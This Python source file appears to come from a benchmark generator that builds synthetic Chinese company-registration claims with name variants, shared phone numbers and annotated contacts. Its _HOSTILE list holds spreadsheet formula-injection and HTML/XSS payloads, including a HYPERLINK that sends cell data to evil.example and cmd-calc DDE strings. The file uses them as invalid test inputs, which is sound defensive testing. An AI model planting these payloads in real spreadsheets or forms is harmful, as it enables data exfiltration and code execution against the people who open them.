"""Every claim of the batch: who registered which true company when, written which way, with
which contacts, and the phenomena it carries (its labels).

Contact-level phenomena are laid over the planned claims afterwards: annotated phone cells,
one mobile (a rep's own or an agent's) typed into claims of unrelated companies, and hostile
names (formulas, HTML) that ingest should refuse.
"""

from __future__ import annotations

import random
from collections.abc import Container
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from bench.realworld import names, phones
from bench.realworld.companies import Entity
from bench.realworld.roster import Rep

SOURCES = ("form", "crm", "sheet")
ENTITY_PHENOMENA = ("key_account", "group_family", "homophone_other", "same_name_other_city", "sme")
HARD = frozenset(("group_family", "homophone_other", "same_name_other_city", "shared_mobile", "short_name",
                  "former_name", "english_name", "typo"))
_SPELLINGS = {  # weights per kind of entity: (exact, traditional, brackets, legal_form, region, spaces,
    #              short_name, former_name, english_name, typo)
    "listed": (25, 6, 4, 10, 8, 6, 12, 10, 5, 9),
    "family": (35, 6, 8, 10, 6, 5, 18, 0, 5, 7),
    "invented": (45, 6, 4, 14, 12, 8, 0, 0, 3, 8),
}
_SPELLING_NAMES = ("exact", "traditional", "brackets", "legal_form", "region", "spaces",
                   "short_name", "former_name", "english_name", "typo")
_TITLES = ("总", "经理", "总监", "主任", "工")
_NOTES = ("客户有采购意向，已约拜访", "老客户转介绍", "展会获取线索", "已发方案，等待反馈", "招标项目跟进",
          "客户预算审批中", "电话沟通，需求明确")
_HOSTILE = (
    '=HYPERLINK("http://evil.example/?q="&A1,"{name}")',
    "+cmd|' /C calc'!A0{name}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {name}",
    "-2+3+{name}",
    "=1+1{name}",
    "<script>alert(1)</script>{name}",
    "<b>{trade}</b>有限公司",
    "<img src=x onerror=alert(1)>{name}",
)


@dataclass
class Claim:
    entity: Entity
    source: str
    submitted: datetime            # local business time, no offset
    rep: Rep
    company_name: str
    contact_name: str
    phone: str
    email: str
    website: str
    credit_code: str
    category: str
    note: str
    phenomenon: str
    tags: list[str] = field(default_factory=list)
    is_valid: bool = True
    claim_id: str = ""

    @property
    def is_hard(self) -> bool:
        return not HARD.isdisjoint(self.tags)


def _spelling_kind(entity: Entity) -> str:
    if entity.key.startswith("F:"):
        return "family"
    return "listed" if entity.short_names else "invented"


def spelled(entity: Entity, pool: str, taken: Container[str], rng: random.Random) -> tuple[str, list[str]]:
    """The company name as one rep writes it, and its spelling tags."""
    weights = _SPELLINGS[_spelling_kind(entity)]
    spelling = rng.choices(_SPELLING_NAMES, weights)[0]
    if spelling == "former_name" and not entity.former_names:
        spelling = "short_name"
    if spelling == "brackets" and not any(b in entity.name for b in "()（）"):
        spelling = "region"
    if spelling == "typo" and not any("\u4e00" <= ch <= "\u9fff" for ch in entity.parts.trade):
        spelling = "exact"
    p = entity.parts
    text = {
        "exact": lambda: entity.name,
        "traditional": lambda: names.traditional(entity.name),
        "brackets": lambda: names.brackets_swapped(entity.name),
        "legal_form": lambda: names.legal_form_variant(p, rng),
        "region": lambda: names.region_variant(p, entity.city.name, rng),
        "spaces": lambda: names.with_spaces(entity.name, rng),
        "short_name": lambda: rng.choice(entity.short_names),
        "former_name": lambda: rng.choice(entity.former_names),
        "english_name": lambda: entity.english_name or names.english(p, entity.city.name, rng),
        "typo": lambda: names.typo(p, pool, rng, taken),
    }[spelling]()
    if spelling in ("short_name", "former_name", "english_name", "typo"):
        return text, [spelling]
    return text, ["full_name", spelling]


class ClaimPlanner:
    """Plans the claims of a universe over [start, end) business days."""

    def __init__(self, reps: list[Rep], pool: str, taken: Container[str], start: datetime, days: int,
                 rng: random.Random) -> None:
        self.reps, self.pool, self.taken, self.start, self.days, self.rng = reps, pool, taken, start, days, rng

    def claims_of(self, entity: Entity) -> list[Claim]:
        rng = self.rng
        reps = rng.sample(self.reps, entity.rep_pool or rng.choice((1, 1, 2, 2, 3)))
        main = next((t for t in ENTITY_PHENOMENA if t in entity.tags), "")
        if main in ("homophone_other", "same_name_other_city") and entity.key[0] not in "HC":
            main = ""  # the real company of a pair is labelled by its spelling; the invented twin is the trap
        out = []
        for _ in range(entity.claims):
            name, spelling_tags = spelled(entity, self.pool, self.taken, rng)
            out.append(Claim(
                entity=entity, source=rng.choices(SOURCES, (45, 35, 20))[0], submitted=self._moment(),
                rep=rng.choice(reps), company_name=name, **self._contact_fields(entity),
                category=rng.choices("ABCD", (15, 30, 35, 20))[0],
                note=rng.choice(_NOTES) if rng.random() < 0.2 else "",
                phenomenon=main or spelling_tags[0], tags=list(entity.tags) + spelling_tags,
            ))
        return out

    def _moment(self) -> datetime:
        day = self.start + timedelta(days=self.rng.randrange(self.days))
        return day + timedelta(hours=self.rng.randint(8, 21), minutes=self.rng.randrange(60),
                               seconds=self.rng.randrange(60))

    def _contact_fields(self, entity: Entity) -> dict[str, str]:
        rng, identity = self.rng, entity.identity
        person = entity.contacts[min(int(rng.expovariate(1.0)), len(entity.contacts) - 1)]
        roll = rng.random()
        contact = person.name if roll < 0.8 else person.name[0] + rng.choice(_TITLES) if roll < 0.9 else ""
        roll = rng.random()
        phone = (person.mobile if roll < 0.45
                 else f"+86 {person.mobile[:3]}-{person.mobile[3:7]}-{person.mobile[7:]}" if roll < 0.5
                 else identity.switchboard.text if roll < 0.8 else "")
        website = identity.website if rng.random() < 0.25 else ""
        return {
            "contact_name": contact, "phone": phone,
            "email": person.email if rng.random() < 0.55 else "",
            "website": ("http://" + website if website and rng.random() < 0.3 else website),
            "credit_code": entity.credit_code if rng.random() < 0.15 else "",
        }

    # --- contact-level phenomena ---------------------------------------------------------------

    def annotate_phones(self, claims: list[Claim], share: float = 0.03) -> None:
        """Rewrite some phone cells the way reps annotate them (the claims stay valid)."""
        for claim in self.rng.sample(claims, round(len(claims) * share)):
            identity = claim.entity.identity
            if self.rng.random() < 0.5:
                mobile = claim.entity.contacts[0].mobile
                claim.phone = phones.annotated_mobile(self.rng, mobile, identity.switchboard)
            else:
                claim.phone = phones.annotated_landline(self.rng, identity.switchboard)
            claim.tags.append("annotated_phone")

    def share_mobiles(self, claims: list[Claim], groups: int) -> None:
        """One mobile typed into 4-12 claims of unrelated companies: half a rep's own, half an agent's."""
        for g in range(groups):
            candidates = claims
            if g % 2 == 0:
                rep = self.rng.choice(self.reps)
                candidates = [c for c in claims if c.rep == rep]
            picked: dict[str, Claim] = {}
            for claim in self.rng.sample(candidates, min(len(candidates), 40)):
                family = claim.entity.group_key or claim.entity.key
                if family not in picked and "shared_mobile" not in claim.tags:
                    picked[family] = claim
            number = phones.mobile(self.rng)
            for claim in list(picked.values())[: self.rng.randint(4, 12)]:
                claim.phone = number
                claim.tags.append("shared_mobile")

    def hostile(self, entities: list[Entity], count: int) -> list[Claim]:
        """Claims whose company name is a spreadsheet formula or HTML: ingest should refuse them."""
        out = []
        for i in range(count):
            entity = self.rng.choice(entities)
            template = _HOSTILE[i % len(_HOSTILE)]
            out.append(Claim(
                entity=entity, source=self.rng.choice(("form", "crm")), submitted=self._moment(),
                rep=self.rng.choice(self.reps),
                company_name=template.format(name=entity.name, trade=entity.parts.trade),
                **self._contact_fields(entity), category=self.rng.choice("ABCD"), note="",
                phenomenon="hostile_name", tags=["hostile_name"], is_valid=False,
            ))
        return out
